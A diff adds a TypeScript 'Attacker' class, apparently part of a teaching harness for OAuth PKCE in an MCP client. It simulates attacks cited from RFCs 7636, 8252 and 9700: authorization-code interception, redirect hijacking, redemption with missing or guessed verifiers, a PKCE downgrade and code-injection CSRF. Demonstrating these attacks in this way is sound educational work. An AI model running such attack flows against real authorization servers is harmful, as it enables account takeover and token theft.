@@ -1,0 +1,214 @@
+import { base64UrlEncode, generateCodeVerifier, type RandomOctets, type Sha256 } from '../pkce';
+import { McpClient, mcpToolCall } from './client';
+import { formPost, headerValue, pageResponse, type Exchange, type Send } from './http';
+import type { HttpRequest, HttpResponse, Knowledge } from './types';
+
+/** Every way the attacker tries to turn a code it does not own into a token. */
+export type AttackStrategy =
+	'no-verifier' | 'guessed-verifier' | 'challenge-as-verifier' | 'replay' | 'inject';
+
+/** The strategies that send the stolen code straight to the token endpoint. */
+export type RedeemStrategy = 'no-verifier' | 'guessed-verifier' | 'challenge-as-verifier';
+
+export interface AttackerOptions {
+	/** The honest client's public identifier, which the attacker reuses. */
+	client_id: string;
+	resource: string;
+	authorization_endpoint: string;
+	token_endpoint: string;
+	random: RandomOctets;
+	sha256: Sha256;
+	/** The account the attacker signs in with in its own flows. */
+	user?: string;
+}
+
+/**
+ * A malicious app on the same machine as the MCP client: the attacker of RFC 7636 §1.
+ * @see https://www.rfc-editor.org/rfc/rfc7636#section-1
+ */
+export class Attacker {
+	readonly user: string;
+	private readonly options: AttackerOptions;
+	private readonly notebook: Knowledge = {};
+	private redirectUri: string | undefined;
+	private ownClient: McpClient | undefined;
+	private ownCallback: string | undefined;
+
+	constructor(options: AttackerOptions) {
+		this.options = options;
+		this.user = options.user ?? 'mallory';
+	}
+
+	// #region observe-response
+	/**
+	 * Case 4a: it reads the authorization response (OS or URL-handler logs). The client
+	 * receives the same redirect, so both now hold the code and they race.
+	 * @see https://www.rfc-editor.org/rfc/rfc7636#section-1
+	 */
+	observeRedirect(location: string): void {
+		const url = new URL(location);
+		this.copy(url.searchParams, 'code', 'state');
+		this.redirectUri = url.origin + url.pathname;
+	}
+	// #endregion observe-response
+
+	// #region hijack-redirect
+	/**
+	 * It answers the redirect itself (RFC 8252 §8.1): only the attacker gets the code, and the
+	 * real client's sign-in never completes.
+	 * @see https://www.rfc-editor.org/rfc/rfc8252#section-8.1
+	 */
+	takeRedirect(request: HttpRequest): HttpResponse {
+		this.observeRedirect(request.url);
+		return pageResponse(200, 'Signed in. You can close this window.');
+	}
+	// #endregion hijack-redirect
+
+	// #region read-request
+	/**
+	 * Case 4b: it also reads the authorization request (e.g. leaked HTTP logs). With `plain`
+	 * the `code_challenge` is the `code_verifier`, so it now holds the verifier too.
+	 * @see https://www.rfc-editor.org/rfc/rfc7636#section-1
+	 */
+	readAuthorizationRequest(url: string): void {
+		const query = new URL(url).searchParams;
+		this.copy(query, 'code_challenge', 'state');
+		const challenge = query.get('code_challenge');
+		if (challenge && query.get('code_challenge_method') === 'plain') {
+			this.notebook.code_verifier = challenge;
+		}
+	}
+	// #endregion read-request
+
+	// #region redeem-stolen-code
+	/**
+	 * Sends the code it took to the token endpoint, as the honest client would, with whatever
+	 * it has in place of the `code_verifier`.
+	 * @see https://www.rfc-editor.org/rfc/rfc7636#section-4.6
+	 */
+	async redeemStolenCode(strategy: RedeemStrategy, send: Send): Promise<Exchange> {
+		const { code, code_challenge } = this.notebook;
+		if (!code || !this.redirectUri) throw new Error('the attacker has no code');
+		const code_verifier = {
+			'no-verifier': () => undefined,
+			'guessed-verifier': () => generateCodeVerifier(43, this.options.random),
+			'challenge-as-verifier': () => code_challenge
+		}[strategy]();
+		const request = formPost(this.options.token_endpoint, [
+			['grant_type', 'authorization_code'],
+			['code', code],
+			['redirect_uri', this.redirectUri],
+			['client_id', this.options.client_id],
+			...(code_verifier ? [['code_verifier', code_verifier] as const] : []),
+			['resource', this.options.resource]
+		]);
+		return this.keepToken({ request, response: await send(request) });
+	}
+	// #endregion redeem-stolen-code
+
+	// #region call-mcp-as-victim
+	/** Uses a token it obtained against the MCP server: the user's data, in the attacker's hands. */
+	async callMcp(send: Send): Promise<Exchange> {
+		const request = mcpToolCall(this.options.resource, this.notebook.access_token);
+		return { request, response: await send(request) };
+	}
+	// #endregion call-mcp-as-victim
+
+	// #region downgrade-own-flow
+	/**
+	 * RFC 9700 §4.8: it signs in to its own account with the honest client's `client_id` and
+	 * `redirect_uri` but no `code_challenge`, and keeps the code instead of following the redirect.
+	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.8
+	 */
+	async startOwnFlowWithoutPkce(send: Send, victimRedirectUri: string): Promise<Exchange> {
+		const url = new URL(this.options.authorization_endpoint);
+		url.searchParams.append('response_type', 'code');
+		url.searchParams.append('client_id', this.options.client_id);
+		url.searchParams.append('redirect_uri', victimRedirectUri);
+		url.searchParams.append('state', base64UrlEncode(this.options.random(16)));
+		url.searchParams.append('resource', this.options.resource);
+		const request = browserGet(url.href);
+		const response = await send(request, { user: this.user });
+		const location = headerValue(response, 'Location');
+		if (location) this.copy(new URL(location).searchParams, 'code', 'state');
+		return { request, response };
+	}
+	// #endregion downgrade-own-flow
+
+	// #region inject-into-victim
+	/** The link it makes the victim's browser open (CSRF): the victim's callback, its own code. */
+	injectionLink(victimRedirectUri: string): string {
+		const url = new URL(victimRedirectUri);
+		if (this.notebook.code) url.searchParams.append('code', this.notebook.code);
+		if (this.notebook.state) url.searchParams.append('state', this.notebook.state);
+		return url.href;
+	}
+	// #endregion inject-into-victim
+
+	// #region own-session
+	/**
+	 * RFC 9700 §4.5: it starts a sign-in in its own copy of the honest client (same software,
+	 * same loopback port, so the same `redirect_uri`) and lets the server redirect as usual.
+	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
+	 */
+	async startOwnSession(send: Send, port: number): Promise<Exchange> {
+		const { client_id, resource, random, sha256, authorization_endpoint, token_endpoint } =
+			this.options;
+		const client = new McpClient({ client_id, port, resource, random, sha256 });
+		client.useServer({ authorization_endpoint, token_endpoint });
+		await client.startSignIn();
+		const request = browserGet(client.authorizationUrl());
+		const response = await send(request, { user: this.user });
+		this.ownClient = client;
+		this.ownCallback = headerValue(response, 'Location');
+		return { request, response };
+	}
+	// #endregion own-session
+
+	// #region inject-stolen-code
+	/**
+	 * Swaps the stolen code into the callback of its own sign-in; its client checks `state`,
+	 * which is its own, and accepts. Nothing but PKCE tells the two sessions apart now.
+	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
+	 */
+	injectStolenCode(): string {
+		const { code } = this.notebook;
+		if (!code || !this.ownClient || !this.ownCallback) throw new Error('nothing to inject');
+		const callback = new URL(this.ownCallback);
+		callback.searchParams.set('code', code);
+		this.ownClient.receiveCallback(callback.href);
+		return callback.href;
+	}
+
+	/** Its own client redeems the injected code with that client's own `code_verifier`. */
+	async redeemInjectedCode(send: Send): Promise<Exchange> {
+		if (!this.ownClient) throw new Error('no session of its own');
+		return this.keepToken(await this.ownClient.redeem(send));
+	}
+	// #endregion inject-stolen-code
+
+	/** The attacker's notebook: what it has learned or obtained so far. */
+	knowledge(): Knowledge {
+		return { ...this.notebook };
+	}
+
+	private keepToken(exchange: Exchange): Exchange {
+		const token = exchange.response.json?.access_token;
+		if (exchange.response.status === 200 && typeof token === 'string') {
+			this.notebook.access_token = token;
+		}
+		return exchange;
+	}
+
+	private copy(query: URLSearchParams, ...names: ('code' | 'state' | 'code_challenge')[]): void {
+		for (const name of names) {
+			const value = query.get(name);
+			if (value) this.notebook[name] = value;
+		}
+	}
+}
+
+/** A navigation in the attacker's own browser. */
+function browserGet(url: string): HttpRequest {
+	return { method: 'GET', url, headers: [['Accept', 'text/html']] };
+}
